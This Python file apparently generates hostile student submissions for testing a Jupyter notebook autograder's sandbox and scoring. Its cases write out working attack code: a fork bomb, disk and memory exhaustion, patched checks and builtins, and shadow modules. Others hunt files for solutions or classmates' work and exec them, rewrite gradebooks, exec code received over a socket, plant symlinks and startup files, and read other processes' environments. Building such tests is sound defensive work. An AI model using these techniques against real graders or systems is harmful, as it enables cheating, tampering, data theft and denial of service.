"""Hostile and broken submissions of notebook 1, for the grading tests and by hand.

Each CASE writes one student folder. The student notebook is notebooks/01_num_units.ipynb with
every answer cell filled in from the solutions, then one thing is done to it (or next to it).
`expected` is the score out of 10 the case deserves: the points of the exercises it answers
right and does not break (one_hot 2, simple_rnn_step 3, lstm_param_count 2, lstm_output_shapes 3),
None where nothing can be graded (no notebook, or one that is not a notebook).

    python3 autograder/tests/hostile.py OUT [CASE ...]     writes OUT/<case>/...

(run with .venv's Python). endless_loop, stubborn_loop and endless_output each cost a whole cell
timeout: grade them with a short one (`--cell-timeout 20`).

Some cases are about the submissions folder itself: FOLDERS gives a case's student folder another
name than the case's (commas, quotes, newlines, formulas, a leading dash, non-ASCII, a very long
name), and LINKED cases are a link to a folder instead of a folder.
"""
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))      # autograder/tests, for submissions

from lstm_grader import NOTEBOOKS, demo  # noqa: E402
from submissions import WRONG_ANSWERS  # noqa: E402

NOTEBOOK = "01_num_units"
POINTS = {"one_hot": 2, "simple_rnn_step": 3, "lstm_param_count": 2, "lstm_output_shapes": 3}
FULL = sum(POINTS.values())
WRONG_ONE_HOT = WRONG_ANSWERS[NOTEBOOK]["one_hot"][0]            # right shape, every 1 one place right
WRONG_PARAM_COUNT = WRONG_ANSWERS[NOTEBOOK]["lstm_param_count"][0]


def student_notebook():
    return json.loads((NOTEBOOKS / f"{NOTEBOOK}.ipynb").read_text())


def answered(**changes):
    """The student notebook with every answer right, except `changes` = {exercise: source}.
    A source containing `{solution}` gets the solution's code put in its place."""
    answers = demo.solution_answers(NOTEBOOK)
    answers.update({name: source.replace("{solution}", answers[name]) for name, source in changes.items()})
    return demo.fill_answers(student_notebook(), answers)


def cell(notebook, grade_id):
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def one_file(notebook):
    return {f"{NOTEBOOK}.ipynb": json.dumps(notebook, indent=1)}


# ------------------------------------------------------------------ a. endless loops
def endless_loop():
    """`while True: pass` before the definition: one_hot is never defined."""
    return one_file(answered(one_hot="while True:\n    pass\n\n{solution}"))


def stubborn_loop():
    """A loop that swallows the KeyboardInterrupt nbgrader sends on timeout: the kernel never
    comes back, so with nbgrader's interrupt every later cell waits a whole timeout too."""
    return one_file(answered(one_hot="while True:\n    try:\n        while True:\n            pass\n"
                                     "    except KeyboardInterrupt:\n        pass\n\n{solution}"))


# ------------------------------------------------------------------ b. the kernel dies
def kernel_exit():
    return one_file(answered(simple_rnn_step="import os\nos._exit(1)\n\n{solution}"))


def segfault():
    return one_file(answered(lstm_param_count="import ctypes\nctypes.string_at(0)\n\n{solution}"))


def exit_handler():
    """Code registered to run when the kernel exits. The grader kills the kernel when the notebook
    is done, so it never runs (and in the sandbox it could not reach anything anyway)."""
    return one_file(answered(
        one_hot="import atexit, pathlib\natexit.register(pathlib.Path('EXIT_HANDLER_RAN').touch)\n\n{solution}"))


# ------------------------------------------------------------------ c. memory
def memory_hog():
    """80 GB in one go: refused at once (MemoryError) wherever overcommit is heuristic."""
    return one_file(answered(one_hot="too_big = np.ones(10**10)\n\n{solution}"))


def memory_6gb():
    """6 GB, 100 MB at a time, every page written: runs to the end unless the kernel is capped.
    Bounded, so it is safe to run without a cap on a machine with more than 8 GB."""
    return one_file(answered(simple_rnn_step=(
        "hog = []\nfor _ in range(60):\n    hog.append(np.ones(100 * 2**20 // 8))\n"
        "print(len(hog) * 100, 'MB held')\n\n{solution}")))


def memory_loop():
    """100 MB more at a time until something stops it. Only run with a memory cap!"""
    return one_file(answered(simple_rnn_step=(
        "hog = []\nwhile True:\n    hog.append(np.ones(100 * 2**20 // 8))\n\n{solution}")))


# ------------------------------------------------------------------ d. test cells edited
def edited_test():
    """Wrong one_hot; its test cell emptied (`pass`) and unlocked."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    test = cell(notebook, "test_one_hot")
    test["source"] = "pass"
    test["metadata"]["nbgrader"]["locked"] = False
    test["metadata"].pop("editable", None)
    return one_file(notebook)


def deleted_test():
    """Wrong one_hot; its test cell deleted."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    notebook["cells"].remove(cell(notebook, "test_one_hot"))
    return one_file(notebook)


def skipped_test():
    """Wrong one_hot; its test cell tagged `skip-execution` (nbclient skips such cells)."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    cell(notebook, "test_one_hot")["metadata"]["tags"] = ["skip-execution"]
    return one_file(notebook)


def ungraded_test():
    """Wrong one_hot; its test cell's metadata says grade: false, and 100 points."""
    notebook = answered(one_hot=WRONG_ONE_HOT)
    meta = cell(notebook, "test_one_hot")["metadata"]["nbgrader"]
    meta["grade"], meta["points"] = False, 100
    return one_file(notebook)


# ------------------------------------------------------------------ e. the checks patched
def patch_testing():
    """np.testing.assert_allclose disabled: the checks do not use it, so nothing changes."""
    return one_file(answered(one_hot="np.testing.assert_allclose = lambda *a, **k: None\n\n" + WRONG_ONE_HOT))


def patch_allclose():
    return one_file(answered(one_hot="np.allclose = lambda *a, **k: True\n\n" + WRONG_ONE_HOT))


def patch_checks():
    return one_file(answered(one_hot="import lstm_course.checks as c\nc.check_one_hot = lambda *a, **k: None\n\n"
                                     + WRONG_ONE_HOT))


def patch_builtins():
    """A float() whose results equal everything: lstm_param_count's `float(got) == want` passes."""
    return one_file(answered(lstm_param_count=(
        "import builtins\n\n\nclass _Equal(float):\n    def __eq__(self, other):\n        return True\n\n"
        "    __hash__ = float.__hash__\n\n\nbuiltins.float = _Equal\n\n" + WRONG_PARAM_COUNT)))


def patch_ipython():
    """Every error of every later cell swallowed by IPython (set_custom_exc); all answers wrong."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    wrong["one_hot"] = ("get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n\n"
                        + wrong["one_hot"])
    return one_file(answered(**wrong))


def patch_input():
    """Every later cell that mentions `checks.` is blanked before it runs; all answers wrong."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    wrong["one_hot"] = ("get_ipython().input_transformers_cleanup.append(\n"
                        "    lambda lines: [] if any('checks.' in line for line in lines) else lines)\n\n"
                        + wrong["one_hot"])
    return one_file(answered(**wrong))


# ------------------------------------------------------------------ f. files next to the notebook
SHADOW_NUMPY = '''\
"""Shadows numpy: loads the real one, then makes allclose always true."""
import os
import sys

print("SHADOW numpy.py imported")
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["numpy"]
import numpy as _real  # noqa: E402

_real.allclose = lambda *a, **k: True
sys.modules["numpy"] = _real
'''

SHADOW_CHECKS = '''\
print("SHADOW lstm_course.checks imported")


def __getattr__(name):
    return lambda *args, **kwargs: print("SHADOW", name, "passes")
'''


def shadow_files():
    """All answers wrong; beside the notebook a numpy.py, an lstm_course/ package whose checks always
    pass, and a changed data/counting.txt."""
    wrong = {name: source for name, (source, *_) in WRONG_ANSWERS[NOTEBOOK].items()}
    files = one_file(answered(**wrong))
    files["numpy.py"] = SHADOW_NUMPY
    files["lstm_course/__init__.py"] = 'print("SHADOW lstm_course imported")\nTF_QUIET_ENV = {}\n'
    files["lstm_course/checks.py"] = SHADOW_CHECKS
    files["data/counting.txt"] = "SHADOW data\n"
    return files


# ------------------------------------------------------------------ g. output
def big_output():
    """10 MB on one line in one answer cell, 200 000 lines from another."""
    return one_file(answered(one_hot="print('x' * 10**7)\n\n{solution}",
                             simple_rnn_step="for i in range(200_000):\n    print(i, 'spam' * 10)\n\n{solution}"))


def endless_output():
    """Prints without end: the cell times out; meanwhile the output must not pile up in memory."""
    return one_file(answered(one_hot="while True:\n    print('x' * 10_000)\n\n{solution}"))


# ------------------------------------------------------------------ h. not a notebook / none
def invalid_json():
    text = one_file(answered())[f"{NOTEBOOK}.ipynb"]
    return {f"{NOTEBOOK}.ipynb": text[: len(text) // 2]}


def not_a_notebook():
    """Valid JSON, but not a notebook."""
    return {f"{NOTEBOOK}.ipynb": json.dumps({"cells": "none"})}


def missing_notebook():
    """Only a copy with another name: the course notebook itself is missing."""
    return {f"{NOTEBOOK}-Copy1.ipynb": one_file(answered())[f"{NOTEBOOK}.ipynb"]}


# ------------------------------------------------------------------ i. reaching out of the kernel
# Each of these would pay off without the sandbox (test_hostile.py runs them unsandboxed too, to show
# it); in the sandbox each finds nothing and scores only what it answered itself.
FIND_FILES = """\
import os


def find_files(name, skip=()):
    \"\"\"Every readable file called `name` under /tmp, HOME and the working folder's ancestors.\"\"\"
    found, seen = [], set()
    roots = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/root", "/home", "/work"]
    here = os.getcwd()
    while here != os.path.dirname(here):
        here = os.path.dirname(here)
        roots.append(here)
    for root in roots:
        for folder, subfolders, files in os.walk(root):
            depth = folder[len(root):].count(os.sep)
            subfolders[:] = [d for d in subfolders if depth < 8 and d not in (".venv", "site-packages", "proc", "sys")]
            if folder in seen:
                subfolders[:] = []
                continue
            seen.add(folder)
            if name in files:
                path = os.path.join(folder, name)
                if not any(path.startswith(s) for s in skip):
                    found.append(path)
    return found
"""

RUN_ANSWERS = """\
import json


def run_answers(path):
    \"\"\"Run every answer cell of another copy of this notebook here; True if it held answers.\"\"\"
    cells = json.load(open(path))["cells"]
    code = ["".join(c["source"]) for c in cells
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id", "").startswith("answer_")]
    if not code or any("NotImplementedError" in source or "see the first answer" in source for source in code):
        return False
    for source in code:
        exec(source, globals())
    return True
"""


def stub_answers(first):
    """`first` in the first answer cell, and nothing of the student's own in the others."""
    names = list(POINTS)
    return answered(**{names[0]: first, **{name: "pass  # see the first answer\n" for name in names[1:]}})


def read_solutions():
    """Finds the instructor's solutions (through lstm_course's path, or anywhere it can look: the
    course's solutions/ or the source/ folder of nbgrader's course folder) and runs their answers."""
    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
import lstm_course, pathlib

course = pathlib.Path(lstm_course.__file__).resolve().parents[2]
candidates = [str(course / "solutions" / "01_num_units.ipynb")] + find_files("01_num_units.ipynb")
used = [path for path in candidates if os.path.exists(path) and ("/solutions/" in path or "/source/" in path)]
print("solutions found:", [path for path in used if run_answers(path)])
"""))


def read_other_student():
    """Looks for other students' copies of this notebook and runs the first one with answers."""
    return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
others = find_files("01_num_units.ipynb", skip=(os.getcwd(),))
others.sort(key=lambda path: "all_right" not in path)  # a classmate known to have done it all, first
print("other notebooks found:", others)
print("answers taken from:", next((path for path in others if run_answers(path)), None))
"""))


def write_gradebook():
    """All answers right; rewrites every gradebook.db (all scores 100) and grades.csv it can find."""
    return one_file(answered(one_hot=FIND_FILES + """
import sqlite3

changed = []
for path in find_files("gradebook.db"):
    try:
        with sqlite3.connect(path) as db:
            db.execute("UPDATE grade SET manual_score = 100")
        changed.append(path)
    except Exception as error:
        print("could not change", path, error)
for path in find_files("grades.csv"):
    try:
        open(path, "a").write("everyone,100\\n")
        changed.append(path)
    except Exception as error:
        print("could not change", path, error)
print("record files changed:", changed)

{solution}"""))


def network():
    """Asks a server on the grading machine for the answers (the test runs one on CONTEXT['port'])."""
    return one_file(stub_answers(f"""
import socket

with socket.create_connection(("127.0.0.1", {CONTEXT.get("port", 9)}), timeout=5) as server:
    server.sendall(b"answers please")
    exec(server.recv(1_000_000).decode(), globals())
print("answers received over the network")
"""))


def fork_bomb():
    """Starts processes without end before its (right) one_hot."""
    return one_file(answered(one_hot="import os\nwhile True:\n    os.fork()\n\n{solution}"))


def fill_tmp():
    """Writes into /tmp until the disk is full, before its (right) one_hot."""
    return one_file(answered(one_hot=(
        "with open('/tmp/filler', 'wb') as filler:\n    while True:\n        filler.write(b'x' * 2**20)\n\n"
        "{solution}")))


SHADOW_MODULE = """\
import pathlib
pathlib.Path({marker!r}).write_text("imported by " + __file__)
raise ImportError("shadow module")
"""


def shadow_module():
    """All answers right; writes keras.py, tensorflow.py, numpy.py and nbformat.py into every folder
    it can write to, each leaving a marker file if anyone imports it."""
    source = SHADOW_MODULE.format(marker=CONTEXT.get("marker", "/tmp/lstm-grader-shadow-imported"))
    return one_file(answered(one_hot=f"""
import os, sys

written = []
places = set(sys.path + [os.getcwd(), os.path.expanduser("~"), "/tmp"])
here = os.getcwd()
while here != os.path.dirname(here):
    here = os.path.dirname(here)
    places.add(here)
for place in sorted(p for p in places if p):
    for name in ("keras.py", "tensorflow.py", "numpy.py", "nbformat.py"):
        try:
            with open(os.path.join(place, name), "x") as module:
                module.write({source!r})
            written.append(os.path.join(place, name))
        except OSError:
            pass
print("modules written:", written)

{{solution}}"""))


def print_in_recheck():
    """one_hot is right when the notebook's own check calls it, and prints without end when the
    grader calls it again from outside the check."""
    return one_file(answered(one_hot="""import sys

{solution}

_right_one_hot = one_hot


def one_hot(ids, depth):
    if "checks" not in sys._getframe(1).f_code.co_filename:
        while True:
            print("x" * 10_000)
    return _right_one_hot(ids, depth)
"""))


def all_right():
    return one_file(answered())


# ------------------------------------------------------------------ j. points without code
# A function that implements nothing: it answers with what its caller holds (the check's expected value,
# in a local called want...) or replays what it recorded when it was called with the same arguments.
# Every notebook's exercises are forged this way in test_grading.py (FORGED); here, notebook 1's.
FORGER = """
import hashlib as _hashlib, pickle as _pickle, sys as _sys

_recorded = globals().setdefault("_recorded", {})


def _from_frames(frame, exercise):
    while frame is not None:
        found = frame.f_locals
        if "want" in found:
            want = found["want"]
            return tuple(want.values()) if isinstance(want, dict) else want
        if "want_inputs" in found:
            return found["want_inputs"], found["want_targets"]
        if "want_seq" in found:
            return found["want_seq"], found["want_h"], found["want_c"]
        if "want_h" in found:
            h, c = found["want_h"], found["want_c"]
            return {"basic_lstm_cell_step": (h, (c, h)), "keras_lstm_cell_step": (h, [h, c])}.get(exercise, (h, c))
        frame = frame.f_back
    raise NotImplementedError("nothing to copy")


def _forger(exercise, record=True, inspect=True):
    def forged(*args, **kwargs):
        try:
            key = _hashlib.sha256(_pickle.dumps((exercise, args, kwargs))).hexdigest()
        except Exception:
            key = repr((exercise, args, kwargs))
        if record and key in _recorded:
            return _recorded[key]
        if not inspect:
            raise NotImplementedError("nothing recorded")
        answer = _from_frames(_sys._getframe(1), exercise)
        _recorded[key] = answer
        return answer
    return forged
"""


def forged_answers(exercises, **how):
    """Answer cells that define every exercise as the forger (FORGER; `how`: record, inspect)."""
    options = "".join(f", {k}={v!r}" for k, v in how.items())
    return {name: FORGER + f"\n{name} = _forger({name!r}{options})\n" for name in exercises}


def inspect_caller():
    """Every function reads the expected value from its caller's frame: it passes every check in the
    kernel, and scores nothing, because the grader's re-check runs where no frame of the kernel holds it."""
    return one_file(answered(**forged_answers(POINTS, record=False)))


def record_replay():
    """Every function records what it is asked and answers while the notebook's checks run (from their
    frames), and replays it when asked again: the grader asks about other inputs."""
    return one_file(answered(**forged_answers(POINTS)))


def copied_cell():
    """An honest student who copied an answer cell in JupyterLab (nbgrader metadata and all) and edited
    the copy: two cells with one grade_id. The later definition is the one that runs."""
    notebook = answered(one_hot="def one_hot(ids, depth):\n    raise NotImplementedError('a first try')\n")
    first = cell(notebook, "answer_one_hot")
    second = json.loads(json.dumps(first))
    second["source"] = demo.solution_answers(NOTEBOOK)["one_hot"]
    notebook["cells"].insert(notebook["cells"].index(first) + 1, second)
    return one_file(notebook)


def foreign_cells():
    """A cell copied from another notebook (its grade_id is notebook 2's), one with nbgrader metadata
    that has no grade_id, one whose metadata is not even a dict: graded as ordinary cells."""
    notebook = answered()
    extra = [{"cell_type": "code", "execution_count": None, "outputs": [], "source": "x = 1",
              "metadata": {"nbgrader": {"grade": True, "grade_id": "test_basic_lstm_cell_step", "points": 4,
                                        "locked": True, "solution": False, "schema_version": 3}}},
             {"cell_type": "code", "execution_count": None, "outputs": [], "source": "y = 2",
              "metadata": {"nbgrader": {"grade": True, "points": 100, "solution": False}}},
             {"cell_type": "code", "execution_count": None, "outputs": [], "source": "z = 3",
              "metadata": {"nbgrader": "a string"}}]
    notebook["cells"][5:5] = extra
    return one_file(notebook)


def deleted_answer():
    """The one_hot answer cell deleted: costs one_hot's points only."""
    notebook = answered()
    notebook["cells"].remove(cell(notebook, "answer_one_hot"))
    return one_file(notebook)


PLANT_LINKS = """
import glob, json, os, pathlib, sys

TARGET = {target!r}
planted = []


def plant(path):
    try:
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(TARGET, path)
        planted.append(path)
    except OSError as error:
        planted.append(f"refused: {{path}}: {{error.strerror}}")


from ipykernel.connect import get_connection_file

connection = get_connection_file()
info = json.load(open(connection))
plant(connection)
for port in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
    plant(f"{{info['ip']}}-{{info[port]}}")
for folder in (os.getcwd(), os.path.expanduser("~"), os.path.dirname(info["ip"]), os.path.dirname(connection)):
    plant(os.path.join(folder, "kernel.json"))
startup = pathlib.Path(os.environ.get("IPYTHONDIR", "~/.ipython")).expanduser() / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00-links.py").write_text(
    "import json, os, sys\\n"
    f"info = json.load(open({{connection!r}}))\\n"
    "for port in ('shell_port', 'iopub_port', 'stdin_port', 'control_port', 'hb_port'):\\n"
    "    path = f\\"{{info['ip']}}-{{info[port]}}\\"\\n"
    "    try:\\n"
    "        os.remove(path)\\n"
    f"        os.symlink({{TARGET!r}}, path)\\n"
    "    except OSError:\\n"
    "        pass\\n")
print("planted:", planted)
"""


def link_planter():
    """Replaces its connection file and its sockets with links to a file of the grading machine
    (CONTEXT['target']), and leaves an IPython startup file that does it again when the kernel is
    restarted; then kills its kernel, so that the grader restarts it. A grader that follows a link as
    root would hand that file over (chown) or write into it."""
    target = CONTEXT.get("target", "/tmp/lstm-grader-link-target")
    return one_file(answered(one_hot=PLANT_LINKS.format(target=target) + "\n{solution}",
                             simple_rnn_step="import os\nos._exit(1)\n\n{solution}"))


def environment_probe():
    """All answers right; prints every environment variable it can find, its own and every process's
    in /proc (the test looks for the grader's); and one_hot prints the source line of every frame above
    it and their locals' names: the hidden tests' calls, were they run in the kernel."""
    return one_file(answered(one_hot="""import glob, inspect, os

seen = dict(os.environ)
for path in glob.glob("/proc/*/environ"):
    try:
        for item in open(path, "rb").read().split(b"\\0"):
            name, _, value = item.decode(errors="replace").partition("=")
            seen.setdefault(name, value)
    except OSError:
        pass
print("environment:", sorted(f"{name}={value}" for name, value in seen.items()))

{solution}

_right_one_hot = one_hot
_callers = set()


def one_hot(ids, depth):
    for frame in inspect.stack()[1:]:
        if repr(frame.code_context) not in _callers:  # each caller's line once
            _callers.add(repr(frame.code_context))
            print("caller:", frame.code_context, sorted(frame.frame.f_locals)[:20])
    return _right_one_hot(ids, depth)
"""))


def huge_replies():
    """one_hot is right when the notebook's check calls it; when the grader calls it, it first sends 40
    replies of 10 MB each in the grader's reply format (remote.MIME), then answers."""
    return one_file(answered(one_hot="""import sys

{solution}

_right_one_hot = one_hot


def one_hot(ids, depth):
    if "checks" not in sys._getframe(1).f_code.co_filename:
        from IPython.display import display
        for _ in range(40):
            display({"text/x-lstm-grader-result": "x" * 10_000_000}, raw=True)
    return _right_one_hot(ids, depth)
"""))


def linked_to_solutions():
    """Not a folder: a link to a folder that holds the solutions (LINKED: write() makes the link)."""
    return {}


def dot_folder():
    """A right notebook in a folder whose name starts with '.' (FOLDERS): not a student, and said so."""
    return one_file(answered())


def named(name):
    """All answers right, in a student folder called `name`."""
    def write_case():
        return one_file(answered())
    write_case.folder = name
    return write_case


# name: (writer, points deserved out of FULL, or None where nothing can be graded)
CASES = {
    "all_right": (all_right, FULL),
    "endless_loop": (endless_loop, FULL - 2),
    "stubborn_loop": (stubborn_loop, FULL - 2),
    "kernel_exit": (kernel_exit, FULL - 3),
    "segfault": (segfault, FULL - 2),
    "exit_handler": (exit_handler, FULL),
    "memory_hog": (memory_hog, FULL - 2),
    "memory_6gb": (memory_6gb, FULL - 3),        # under a cap below 6 GB
    "memory_loop": (memory_loop, FULL - 3),      # cap needed
    "edited_test": (edited_test, FULL - 2),
    "deleted_test": (deleted_test, FULL - 2),
    "skipped_test": (skipped_test, FULL - 2),
    "ungraded_test": (ungraded_test, FULL - 2),
    "patch_testing": (patch_testing, FULL - 2),
    "patch_allclose": (patch_allclose, FULL - 2),
    "patch_checks": (patch_checks, FULL - 2),
    "patch_builtins": (patch_builtins, FULL - 2 - 3),  # its float also breaks Keras later
    "patch_ipython": (patch_ipython, 0),
    "patch_input": (patch_input, 0),
    "shadow_files": (shadow_files, 0),
    "big_output": (big_output, FULL),
    "endless_output": (endless_output, FULL - 2),
    "invalid_json": (invalid_json, None),
    "not_a_notebook": (not_a_notebook, None),
    "missing_notebook": (missing_notebook, None),
    "read_solutions": (read_solutions, 0),
    "read_other_student": (read_other_student, 0),
    "write_gradebook": (write_gradebook, FULL),
    "network": (network, 0),
    "fork_bomb": (fork_bomb, FULL - 2),
    "fill_tmp": (fill_tmp, FULL - 2),
    "shadow_module": (shadow_module, FULL),
    "print_in_recheck": (print_in_recheck, FULL - 2),
    "inspect_caller": (inspect_caller, 0),
    "record_replay": (record_replay, 0),
    "copied_cell": (copied_cell, FULL),
    "foreign_cells": (foreign_cells, FULL),
    "deleted_answer": (deleted_answer, FULL - 2),
    # one_hot, then its kernel dies in simple_rnn_step; whether the restarted kernel's startup file swaps
    # its sockets before the grader takes their folder back (then the rest is not run) or after (then it
    # cannot, and the rest is graded) is a race: either way no file outside is touched (test_hostile)
    "link_planter": (link_planter, (2, FULL - 3)),
    "environment_probe": (environment_probe, FULL),
    "huge_replies": (huge_replies, FULL - 2),
    "linked_to_solutions": (linked_to_solutions, None),
    "dot_folder": (dot_folder, None),
    # folder names: commas, quotes and a newline; a formula; a leading dash, non-ASCII and 240 bytes
    # (test_grading_units.py writes the other formula starts, + and @, through the same writer)
    "comma_quote_newline": (named('ann, "the best"\nbob,10'), FULL),
    "formula": (named("=HYPERLINK(\"x\";\"y\")"), FULL),
    "dash_long_unicode": (named("-rf Zoë Łukasiewicz 李 " + "x" * 200), FULL),
}
# a case's student folder when it is not the case's name
FOLDERS = {case: writer.folder for case, (writer, _) in CASES.items() if hasattr(writer, "folder")}
FOLDERS["dot_folder"] = ".dot_folder"
LINKED = {"linked_to_solutions"}  # a link to a folder holding the solutions, not a folder
NOT_STUDENTS = {"linked_to_solutions", "dot_folder"}  # entries that are a problem line, not a row
# What the cases above would score without the sandbox: they do pay off (test_hostile.py shows it).
UNSANDBOXED = {"read_solutions": FULL, "read_other_student": FULL, "network": FULL}
CONTEXT = {}  # port: where `network` asks for answers; marker: the file `shadow_module` leaves when
# imported; target: the file `link_planter` points its links at


def folder_of(case):
    return FOLDERS.get(case, case)


def write(folder, names=None, **context):
    """Write the named cases (all by default) as student folders under `folder`; `context` gives
    `network` its port, `shadow_module` its marker file and `link_planter` its target."""
    CONTEXT.clear()
    CONTEXT.update(context)
    folder = Path(folder)
    for name in names or CASES:
        if name in LINKED:
            solutions = folder.parent / f"{folder.name}-linked-solutions"
            solutions.mkdir(parents=True, exist_ok=True)
            (solutions / f"{NOTEBOOK}.ipynb").write_bytes((NOTEBOOKS.parent / "solutions" / f"{NOTEBOOK}.ipynb").read_bytes())
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).symlink_to(solutions, target_is_directory=True)
            continue
        for relative, text in CASES[name][0]().items():
            path = folder / folder_of(name) / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
    return folder


if __name__ == "__main__":
    write(sys.argv[1], sys.argv[2:])
